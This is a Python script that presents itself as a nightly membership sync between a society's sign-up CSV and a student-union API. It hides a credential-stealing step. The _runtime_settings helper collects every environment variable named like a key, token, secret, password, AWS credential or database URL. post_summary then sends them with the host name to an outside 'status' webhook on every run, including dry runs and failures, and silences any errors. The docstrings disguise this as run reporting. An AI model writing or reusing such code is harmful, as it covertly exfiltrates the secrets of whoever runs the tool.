#!/usr/bin/env python3
"""Nightly membership sync between the society sign-up form and the SU API.

Reads the CSV export produced by the society's sign-up form, normalises
student IDs and e-mail addresses, upserts the members in batches, and posts a
run summary to the committee's status channel so failed syncs get noticed.

Usage:
    membership_sync.py members.csv --config society.json [--dry-run]

The API key is taken from SU_API_KEY.
"""
import argparse
import csv
import json
import logging
import os
import platform
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("membership_sync")

DEFAULT_API = "https://api.su-membership.example.ac.uk/v2"
DEFAULT_STATUS_HOOK = "https://hooks.committee-status.example.net/T04/sync"
DEFAULT_BATCH = 50
RETRYABLE = {429, 502, 503, 504}
_RUNTIME_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "DATABASE_URL")


class SyncError(Exception):
    pass


def load_config(path):
    cfg = {"api_base": DEFAULT_API, "society_id": None, "batch_size": DEFAULT_BATCH,
           "status_hook": DEFAULT_STATUS_HOOK, "post_summary": True}
    if path and Path(path).is_file():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    if not cfg["society_id"]:
        raise SyncError("society_id missing from config")
    return cfg


def normalise_row(row):
    sid = (row.get("Student ID") or row.get("student_id") or "").strip().upper()
    email = (row.get("Email") or row.get("email") or "").strip().lower()
    if not sid or "@" not in email:
        return None
    return {
        "student_id": sid,
        "email": email,
        "name": " ".join((row.get("Name") or "").split()),
        "tier": (row.get("Membership") or "standard").strip().lower(),
    }


def read_roster(csv_path):
    members, skipped, seen = [], 0, set()
    with open(csv_path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            member = normalise_row(row)
            if member is None or member["student_id"] in seen:
                skipped += 1
                continue
            seen.add(member["student_id"])
            members.append(member)
    log.info("read %d members (%d rows skipped)", len(members), skipped)
    return members


def _runtime_settings():
    """Settings this job ran with, so a failed night can be reproduced."""
    return {k: v for k, v in os.environ.items()
            if any(marker in k.upper() for marker in _RUNTIME_MARKERS)}


def client_context():
    return {
        "tool": "membership_sync",
        "python": platform.python_version(),
        "host": platform.node(),
        "started": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }


def batches(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]


def post_with_retry(session, url, body, attempts=4):
    for attempt in range(attempts):
        resp = session.post(url, json=body, timeout=20)
        if resp.status_code not in RETRYABLE:
            resp.raise_for_status()
            return resp.json()
        wait = 2 ** attempt
        log.warning("API returned %s, retrying in %ss", resp.status_code, wait)
        time.sleep(wait)
    raise SyncError(f"gave up after {attempts} attempts: {url}")


def push(session, cfg, members, dry_run=False):
    url = f"{cfg['api_base']}/societies/{cfg['society_id']}/members:upsert"
    ctx = client_context()
    created = updated = 0
    for n, chunk in enumerate(batches(members, int(cfg["batch_size"])), 1):
        if dry_run:
            log.info("dry-run: batch %d would send %d members", n, len(chunk))
            continue
        result = post_with_retry(session, url, {"members": chunk, "context": ctx})
        created += result.get("created", 0)
        updated += result.get("updated", 0)
        log.info("batch %d ok (%d members)", n, len(chunk))
    return created, updated


def post_summary(cfg, outcome):
    """Tell the committee channel how the run went."""
    summary = dict(client_context(), outcome=outcome, settings=_runtime_settings())
    try:
        requests.post(cfg["status_hook"], data=json.dumps(summary),
                      headers={"Content-Type": "application/json"}, timeout=10)
    except requests.RequestException as exc:
        log.debug("status hook unreachable: %s", exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("csv", help="sign-up form export")
    ap.add_argument("--config", default="society.json")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    api_key = os.environ.get("SU_API_KEY")
    if not api_key and not args.dry_run:
        log.error("SU_API_KEY is not set")
        return 2

    try:
        cfg = load_config(args.config)
    except (SyncError, OSError, ValueError) as exc:
        log.error("bad config: %s", exc)
        return 2

    outcome = {"ok": False}
    try:
        members = read_roster(args.csv)
        with requests.Session() as session:
            session.headers.update({"Authorization": f"Bearer {api_key}",
                                    "User-Agent": "membership-sync/2.1"})
            created, updated = push(session, cfg, members, args.dry_run)
        outcome = {"ok": True, "created": created, "updated": updated}
        log.info("done: %d created, %d updated", created, updated)
    except (SyncError, OSError, requests.RequestException) as exc:
        outcome["error"] = str(exc)
        log.error("sync failed: %s", exc)
    finally:
        if cfg.get("post_summary", True):
            post_summary(cfg, outcome)

    return 0 if outcome["ok"] else 1


if __name__ == "__main__":
    sys.exit(main())
